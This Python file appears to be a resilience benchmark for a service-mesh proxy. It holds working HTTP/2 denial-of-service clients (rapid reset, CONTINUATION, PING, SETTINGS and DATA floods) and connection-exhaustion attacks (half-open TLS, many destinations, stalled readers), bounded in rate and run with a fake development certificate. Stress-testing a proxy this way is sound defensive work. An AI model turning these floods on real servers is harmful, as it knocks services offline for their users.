# SPDX-License-Identifier: Apache-2.0
"""A bad client: `python -m bench.attack NAME HOST PORT SECONDS`.

It prints `ready` when it is at work, goes on for so long, at a bounded rate, and prints as JSON
what it did. Those that speak HTTP/2 do so with a certificate of the development authority, to a
proxy's inbound side at HOST, about the application at PORT; cut off, they come back soon. The
others are clients of their own pod's proxy.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import resource
import select
import signal
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import hpack

from bench.envoy import HBONE_PORT
from ztunnel_py.identity import fake
from ztunnel_py.identity.spiffe import Identity

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    Pieces = Callable[[bytes], Iterator[bytes]]

ATTACKER = Identity("cluster.local", "bench", "attacker")
TICK_S = 0.01
RETURN_S = 0.1
GRACE_S = 10
FRAMES_PER_S = 10_000
HALF_OPEN, DESTINATIONS, STALLED = 10_000, 10_000, 16
OPENED_PER_S = 4000
FIRST_PORT = 20_000
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_HEADERS = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAGMENT = 16384
TTL_S = 86400.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame. Source: RFC 9113, section 4.1."""
    return struct.pack(">BHBBI", len(payload) >> 16, len(payload) & 0xFFFF, kind, flags, stream) + (
        payload
    )


def connect_block(authority: str) -> bytes:
    """The header block of a CONNECT, without state, so that it can be said again and again."""
    fields = [(":method", "CONNECT"), (":authority", authority)]
    block: bytes = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*one) for one in fields])
    return block


# --- what is said on a tunnel: endless pieces of one frame or few each


def rapid_reset(block: bytes) -> Iterator[bytes]:
    """Streams that are opened and reset at once."""
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, b"\0\0\0\x08")


def continuation(_block: bytes) -> Iterator[bytes]:
    """A header block without end."""
    yield frame(HEADERS, 0, 1, bytes(FRAGMENT))
    while True:
        yield frame(CONTINUATION, 0, 1, bytes(FRAGMENT))


def ping(_block: bytes) -> Iterator[bytes]:
    """PINGs, each to be answered."""
    return itertools.repeat(frame(PING, 0, 0, b"bad ping"))


def settings(_block: bytes) -> Iterator[bytes]:
    """SETTINGS, each to be acknowledged."""
    return itertools.repeat(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 20)))


def empty_data(block: bytes) -> Iterator[bytes]:
    """DATA with nothing in it."""
    yield frame(HEADERS, END_HEADERS, 1, block)
    yield from itertools.repeat(frame(DATA, 0, 1))


def tiny_data(block: bytes) -> Iterator[bytes]:
    """DATA of one byte each, far below the window."""
    yield frame(HEADERS, END_HEADERS, 1, block)
    yield from itertools.repeat(frame(DATA, 0, 1, b"x"))


FLOODS: dict[str, Pieces] = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation,
    "ping-flood": ping,
    "settings-flood": settings,
    "empty-data-flood": empty_data,
    "tiny-data": tiny_data,
}


@dataclass(slots=True)
class Flood:
    """Says pieces at the given rate, on one tunnel after the other."""

    pieces: Pieces
    host: str
    block: bytes
    context: ssl.SSLContext
    sent: int = 0
    tunnels: int = 0
    ends: Counter[str] = field(default_factory=Counter)
    """How tunnels were ended by the other side: code of its GOAWAY, or `closed`."""

    def run(self, end: float) -> None:
        """Goes on until that time."""
        ready()
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                self._one_tunnel(end)
            time.sleep(RETURN_S)

    def _one_tunnel(self, end: float) -> None:
        with socket.create_connection((self.host, HBONE_PORT), GRACE_S) as plain:
            tunnel = self.context.wrap_socket(plain)
            self.tunnels += 1
            tunnel.sendall(PREFACE + frame(SETTINGS, 0, 0))
            pieces = self.pieces(self.block)
            heard = b""
            try:
                while time.monotonic() < end:
                    data, is_over = drained(tunnel)
                    heard = (heard + data)[-1 << 16 :]
                    if is_over:
                        break
                    due = list(itertools.islice(pieces, int(FRAMES_PER_S * TICK_S)))
                    tunnel.sendall(b"".join(due))
                    self.sent += len(due)
                    time.sleep(TICK_S)
                else:
                    return
            except OSError:
                pass
            self.ends[last_words(heard)] += 1


def drained(tunnel: ssl.SSLSocket) -> tuple[bytes, bool]:
    """What can be read now, and whether the other side has ended."""
    heard = b""
    try:
        while tunnel.pending() or select.select([tunnel], [], [], 0)[0]:
            data = tunnel.recv(1 << 16)
            if not data:
                return heard, True
            heard += data
    except OSError:
        return heard, True
    return heard, False


def last_words(heard: bytes) -> str:
    """The code of a GOAWAY at the end of what was heard."""
    at = heard.rfind(bytes([GOAWAY, 0, 0, 0, 0, 0]))
    if at < 0 or len(heard) < at + 14:
        return "closed"
    return f"GOAWAY {int.from_bytes(heard[at + 10 : at + 14], 'big')}"


# --- connections in great number


async def half_open(host: str, end: float) -> dict[str, int]:
    """Connections to the inbound side that begin TLS and never go on."""
    hello = bytes.fromhex("160301020001")  # a ClientHello would follow
    return await crowd(((host, HBONE_PORT) for _ in range(HALF_OPEN)), hello, end)


async def destinations(host: str, end: float) -> dict[str, int]:
    """Captured connections, each to a destination of its own where nobody listens."""
    ports = range(FIRST_PORT, FIRST_PORT + DESTINATIONS)
    return await crowd(((host, port) for port in ports), b"", end)


async def crowd(places: Iterator[tuple[str, int]], hello: bytes, end: float) -> dict[str, int]:
    """Opens connections, all held until the other side or the time ends them."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened, ended, failed = [], 0, 0
    waiting: set[asyncio.Task[bool]] = set()
    ready()
    for number, place in enumerate(places):
        if time.monotonic() > end:
            break
        waiting.add(asyncio.ensure_future(hold(place, hello, end)))
        opened.append(number)
        if number % int(OPENED_PER_S * TICK_S) == 0:
            await asyncio.sleep(TICK_S)
    for outcome in await asyncio.gather(*waiting, return_exceptions=True):
        failed += isinstance(outcome, BaseException)
        ended += outcome is True
    return {"opened": len(opened), "failed": failed, "ended by the proxy": ended}


async def hold(place: tuple[str, int], hello: bytes, end: float) -> bool:
    """One connection; returns whether the other side ended it."""
    reader, writer = await asyncio.open_connection(*place)
    try:
        writer.write(hello)
        async with asyncio.timeout(max(end - time.monotonic(), 0)):
            await reader.read(1)
    except TimeoutError:
        return False
    except OSError:
        return True
    finally:
        writer.transport.abort()
    return True


def stalled(host: str, port: int, end: float) -> dict[str, int]:
    """Captured connections to an application that sends without end, from which nobody reads."""
    with contextlib.ExitStack() as stack:
        for _ in range(STALLED):
            stack.enter_context(socket.create_connection((host, port), GRACE_S))
        time.sleep(0.5)  # windows fill
        ready()
        time.sleep(max(end - time.monotonic(), 0))
    return {"readers": STALLED}


# --- the program


def main(argv: Sequence[str]) -> int:
    """Attacks."""
    name, host, port, seconds = argv
    signal.alarm(int(float(seconds)) + GRACE_S)
    end = time.monotonic() + float(seconds)
    if name in FLOODS:
        block = connect_block(f"{host}:{port}")
        flood = Flood(FLOODS[name], host, block, tls_context())
        flood.run(end)
        print(json.dumps({"frames": flood.sent, "tunnels": flood.tunnels, **flood.ends}))
    elif name == "half-open":
        print(json.dumps(asyncio.run(half_open(host, end))))
    elif name == "destinations":
        print(json.dumps(asyncio.run(destinations(host, end))))
    elif name == "stalled-readers":
        print(json.dumps(stalled(host, int(port), end)))
    else:
        raise SystemExit(f"no attack is called {name!r}")
    return 0


def tls_context() -> ssl.SSLContext:
    """A client of the mesh."""
    certificate = asyncio.run(fake.FakeCa(fake.root(), TTL_S).issue(ATTACKER))
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(cadata=certificate.roots_pem.decode())
    context.set_alpn_protocols(["h2"])
    file = os.memfd_create("certificate")
    os.write(file, certificate.key_pem + certificate.chain_pem)
    context.load_cert_chain(f"/proc/self/fd/{file}")
    os.close(file)
    return context


def ready() -> None:
    """Tells whoever waits."""
    print("ready", flush=True)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
